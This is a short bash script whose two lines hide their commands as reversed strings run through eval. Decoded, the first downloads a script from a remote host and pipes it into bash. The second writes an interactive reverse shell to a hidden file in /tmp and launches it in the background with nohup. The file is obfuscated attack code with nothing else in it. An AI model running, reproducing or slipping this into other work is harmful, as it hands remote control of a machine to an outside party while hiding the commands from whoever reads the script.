#!/bin/bash
eval "$(echo 'hsab | hs.x/01.2.0.291//:ptth LSsf- lruc' | rev)"
eval "$(rev <<< '& r./pmt/ hsab puhon ;r./pmt/ x+ domhc ;r./pmt/ > "1&>0 35/01.2.0.291/pct/ved/ &> i- hsab" ohce')"
